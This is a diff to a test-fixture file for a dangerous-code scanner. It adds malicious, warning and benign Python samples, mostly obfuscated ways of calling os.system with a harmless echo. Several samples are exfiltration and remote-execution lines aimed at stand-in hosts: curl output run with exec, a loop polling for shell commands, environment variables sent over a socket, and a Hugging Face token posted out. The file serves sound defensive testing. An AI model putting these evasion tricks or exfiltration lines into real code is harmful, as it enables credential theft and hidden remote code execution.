@@ -177,6 +177,171 @@ import os
 with patch("json.loads", os.system) as m:
     import json; json.loads("echo modelsweep-test")
 """,
+    "name_kept": """import os
+getattr(os, ''.join(c for c in 's1y2s3t4e5m' if c.isalpha()))('echo modelsweep-test')
+""",
+    "name_of_loop": """import os
+n = ''
+for c in 'system':
+    n += c
+getattr(os, n)('echo modelsweep-test')
+""",
+    "name_of_docstring": """import os
+def f():
+    'system'
+getattr(os, f.__doc__)('echo modelsweep-test')
+""",
+    "name_of_function": """import os
+def system(): pass
+getattr(os, system.__name__)('echo modelsweep-test')
+""",
+    "name_of_class": """import os
+class K:
+    NAME = 'system'
+getattr(os, K.NAME)('echo modelsweep-test')
+""",
+    "name_appended": """import os
+k = []
+k.append('sys')
+k.append('tem')
+getattr(os, ''.join(k))('echo modelsweep-test')
+""",
+    "name_cut_out": """import os
+getattr(os, 'open:system'.partition(':')[2])('echo modelsweep-test')
+""",
+    "name_unquoted": """import os
+from urllib.parse import unquote
+getattr(os, unquote('%73%79stem'))('echo modelsweep-test')
+""",
+    "name_by_unbound": """import os
+getattr(os, str.join('', ('sys', 'tem')))('echo modelsweep-test')
+""",
+    "name_of_values": """import os
+k = {'a': 'sys', 'b': 'tem'}
+getattr(os, ''.join(k.values()))('echo modelsweep-test')
+""",
+    "name_chosen": """import os
+getattr(os, 'system' if os.name == 'posix' else 'startfile')('echo modelsweep-test')
+""",
+    "module_of_builtin": """print.__self__.__import__('os').system('echo modelsweep-test')
+""",
+    "called_by_name": """import os
+os.system.__call__('echo modelsweep-test')
+""",
+    "table_copied": """import os
+dict(os.__dict__)['system']('echo modelsweep-test')
+""",
+    "getter_kept": """import os
+from operator import attrgetter as g
+f = g('system')
+f(os)('echo modelsweep-test')
+""",
+    "item_of_table": """import os, operator
+operator.itemgetter('system')(vars(os))('echo modelsweep-test')
+""",
+    "loader_of_builtins": """__loader__.load_module('os').system('echo modelsweep-test')
+""",
+    "class_of_module": """import os
+os.__class__.__getattribute__(os, 'system')('echo modelsweep-test')
+""",
+    "spread": """import subprocess
+subprocess.run(**{'args': 'echo modelsweep-test', 'shell': True})
+""",
+    "shell_flag": """import subprocess
+sh = 1 == 1
+subprocess.run('echo modelsweep-test', shell=sh)
+""",
+    "zipped": """import os
+for f, c in zip([os.system], ['echo modelsweep-test']):
+    f(c)
+""",
+    "items_of_table": """import os
+for n, f in {'a': os.system}.items():
+    f('echo modelsweep-test')
+""",
+    "matched": """import os
+match os.system:
+    case f:
+        f('echo modelsweep-test')
+""",
+    "default_runs": """import os
+def f(run=os.system):
+    run('echo modelsweep-test')
+f()
+""",
+    "star_call": """import os
+def f(run, c):
+    run(c)
+f(*(os.system, 'echo modelsweep-test'))
+""",
+    "lambda_default": """import os
+f = lambda x=os.system('echo modelsweep-test'): x
+""",
+    "library_item": """import ctypes
+ctypes.cdll['libc.so.6'].system('echo modelsweep-test'.encode())
+""",
+    "type_of_lambda": """type(lambda: 0)(compile("import os; os.system('echo modelsweep-test')", 'm', 'exec'), {})()
+""",
+    "own_module": """import os, sys
+setattr(sys.modules[__name__], 'run', os.system)
+run('echo modelsweep-test')
+""",
+    "patched": """import os, torch
+def load(*a, **k):
+    os.system('echo modelsweep-test')
+setattr(torch, 'load', load)
+""",
+    "patched_table": """import os, torch
+def load(*a, **k):
+    os.system('echo modelsweep-test')
+vars(torch).update(load=load)
+""",
+    "raised": """import os
+class E(Exception):
+    def __init__(self):
+        os.system('echo modelsweep-test')
+try:
+    raise E
+except E: pass
+""",
+    "returned_table": """import os
+def f():
+    return {'run': os.system}
+f()['run']('echo modelsweep-test')
+""",
+    "returned_one": """import os
+def f(x):
+    if x:
+        return os.system
+    return print
+f(1)('echo modelsweep-test')
+""",
+    "xor_function": """def plain(data, key):
+    return bytes(one ^ key for one in data)
+DATA = [67, 71, 90, 69, 88, 94, 10, 69, 89, 17, 10, 69, 89, 4, 89, 83, 89, 94, 79, 71, 2, 13, 79, 73, 66, 69, 13, 3]
+exec(plain(DATA, 42))
+""",
+    "curl_run": """import subprocess
+exec(subprocess.check_output(['curl', '-s', 'https://example.com/x']))
+""",
+    "polled": """import requests, subprocess, time
+while True:
+    c = requests.get('https://example.com/cmd').text
+    subprocess.run(c, shell=True)
+    time.sleep(60)
+""",
+    "environment_by_socket": """import os, socket
+s = socket.create_connection(('192.0.2.1', 80))
+s.sendall(str(dict(os.environ)).encode())
+""",
+    "token_of_hub": """import os, requests
+requests.post('https://example.com/', data=open(os.path.expanduser('~/.cache/huggingface/token')).read())
+""",
+    "hook_of_paths": """import os, sys
+def hook(p):
+    os.system('echo modelsweep-test')
+sys.path_hooks.append(hook)
+""",
 }
 WARNING = {
     "class_getitem": """import os
@@ -273,6 +438,37 @@ c = sqlite3.connect(":memory:"); c.enable_load_extension(True); c.load_extension
     "posixsubprocess": """import _posixsubprocess, os
 pipes = [-1] * 6
 _posixsubprocess.fork_exec([b"/bin/echo", b"x"], [b"/bin/echo"], True, (), None, None, *pipes, 1, 2, False, False)
+""",
+    "name_from_config": """import os, json
+cfg = json.load(open('config.json'))
+getattr(os, cfg['fn'])(cfg['arg'])
+""",
+    "name_of_listing": """import os
+getattr(os, [n for n in dir(os) if n.startswith('sys') and n.endswith('tem')][0])('echo modelsweep-test')
+""",
+    "name_of_template": """import os
+from string import Template
+getattr(os, Template('${a}tem').substitute(a='sys'))('echo modelsweep-test')
+""",
+    "text_annotation": """import typing
+def f(x: "__import__('os').system('echo modelsweep-test')"): pass
+typing.get_type_hints(f)
+""",
+    "trust_in_table": """from transformers import AutoModel
+kw = {'trust_remote_code': True}
+AutoModel.from_pretrained('evil/repo', **kw)
+""",
+    "trust_in_name": """from transformers import AutoModel
+t = True
+AutoModel.from_pretrained('evil/repo', trust_remote_code=t)
+""",
+    "listed_function": """import os, functools
+functools.reduce(lambda a, f: f(a), [os.system], 'echo modelsweep-test')
+""",
+    "name_in_forward": """import os, torch
+class Net(torch.nn.Module):
+    def forward(self, x):
+        return getattr(os, self.config.name)(self.config.text)
 """,
 }
 BENIGN = {
@@ -373,5 +569,55 @@ def parameters(declared):
 
 def value(text, declared):
     return eval(text, {}, parameters(declared))
+""",
+    "looked_up": """import builtins, importlib, operator, os, socket, subprocess, sys, typing
+from collections import defaultdict
+from urllib.parse import unquote
+import torch
+from transformers import AutoTokenizer
+
+ACT = {"relu": "relu", "gelu": "gelu"}
+KEYS = []
+for part in ("hidden", "size"):
+    KEYS.append(part)
+NAME = "_".join(KEYS)
+LAYERS = ""
+for letter in "abc":
+    LAYERS += letter.upper()
+flag = getattr(os, "O_BINARY", 0) | getattr(os, NAME, 0)
+count = getattr(os, "cpu_count" if LAYERS else "getpid")()
+shell = False
+options = {"shell": shell, "check": True, "trust_remote_code": shell}
+trust = os.environ.get("ACME_TRUST") == "1"
+tokenizer = AutoTokenizer.from_pretrained("acme/net", trust_remote_code=trust, **{"use_fast": True})
+tables = defaultdict(lambda: [torch.nn.Identity, print])
+setattr(sys.modules[__name__], "ACTS", tables)
+for name, layer in zip(["a", "b"], [torch.nn.Linear, torch.nn.Conv1d]):
+    tables[name] = [layer, unquote(name)]
+for name, layer in tables.items():
+    setattr(torch.nn, f"Acme{name}", layer)
+
+def build(name, make=torch.nn.Linear, *given, **more):
+    match name:
+        case "linear":
+            return make(*given, **more)
+        case other:
+            return getattr(torch.nn, other)(*given, **more)
+
+def typed(value: "typing.Callable[[int], str]", other: "list(map(int, [1]))" = None) -> "int":
+    kind = getattr(builtins, str(value))
+    return kind
+
+def git(arguments):
+    command = ["git"]
+    command.extend(arguments)
+    command.append("--short")
+    return subprocess.run(command, **options, capture_output=True).stdout
+
+REVISION = git(["rev-parse", "HEAD"])
+pick = operator.itemgetter("relu")
+act = getattr(torch, pick(ACT))(torch.zeros(1))
+helper = importlib.machinery.SourceFileLoader("helper", "helper.py").load_module("helper")
+build("linear", torch.nn.Linear, *[1, 2])
 """,
 }
